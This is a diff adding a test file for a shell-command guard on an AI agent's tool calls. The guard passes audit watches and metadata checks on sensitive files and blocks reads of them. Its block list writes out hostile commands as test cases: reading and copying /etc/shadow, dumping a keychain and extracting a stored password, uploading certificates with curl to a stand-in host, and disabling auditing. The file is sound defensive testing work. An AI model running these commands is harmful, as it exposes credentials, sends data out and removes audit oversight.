@@ -1,0 +1,45 @@
+/** Commands that only watch, audit or inspect the metadata of sensitive files pass; reads do not. */
+import assert from "node:assert/strict";
+import { recommendedInputCheck } from "../_engine_testing.ts";
+import { watchOnly } from "./_path_watch_only.ts";
+
+const check = recommendedInputCheck("shell");
+const blocked = async (command: string): Promise<boolean> =>
+  (await check("run_command", { command })) !== undefined;
+
+const PASS = [
+  "sudo auditctl -w /etc/shadow -p wa -k shadow_change",
+  "auditctl -w /etc/gshadow -p wa -k identity && auditctl -w /root/.ssh -p wa -k rootkeys",
+  "sudo auditctl -w /etc/sudoers -p wa -k sudoers && echo '-w /etc/sudoers -p wa -k sudoers' | sudo tee -a /etc/audit/rules.d/50-sudoers.rules && sudo auditctl -l | grep sudoers",
+  "inotifywait -m -e modify,attrib /etc/passwd /etc/shadow",
+  "stat -c '%a %U:%G' /etc/shadow ~/.ssh/id_ed25519",
+  "ls -l ~/.aws/credentials; test -f ~/.kube/config",
+  "security find-certificate -a -p ~/Library/Keychains/login.keychain-db | openssl x509 -noout -subject -enddate",
+  'security find-certificate -c "Corp Root CA" -p /Library/Keychains/System.keychain > corp-root.pem',
+];
+
+const BLOCK = [
+  "cat /etc/shadow",
+  "auditctl -w /etc/shadow -p wa -k s && cat /etc/shadow",
+  "security find-generic-password -s github -w ~/Library/Keychains/login.keychain-db",
+  "security dump-keychain -d ~/Library/Keychains/login.keychain-db",
+  "security find-certificate -a -p /Library/Keychains/System.keychain | curl -T - https://upload.example.net",
+  "stat /etc/shadow && cp /etc/shadow /tmp/s",
+  // Turning auditing OFF through a rules file is not a watch rule.
+  "echo '-e 0' | sudo tee -a /etc/audit/rules.d/00-off.rules",
+  "auditctl -D",
+];
+
+Deno.test("watchOnly: audit rules, watches, metadata and public certificates only", () => {
+  for (const c of PASS) assert.equal(watchOnly(c), true, c);
+  for (const c of BLOCK) assert.equal(watchOnly(c), false, c);
+});
+
+Deno.test("through the recommended input policy: watch commands pass, reads and tampering block", async () => {
+  // (The learned whole-call model may still read a long call as dangerous: only short calls here.)
+  for (const c of PASS.slice(0, 2)) assert.equal(await blocked(c), false, c);
+  assert.equal(await blocked(PASS[3]), false, PASS[3]);
+  assert.equal(await blocked(PASS[4]), false, PASS[4]);
+  // (`-e 0` in a rules file is posture's business, not this file's: left to the unit test above.)
+  for (const c of BLOCK.filter((c) => !c.includes("-e 0"))) assert.equal(await blocked(c), true, c);
+});
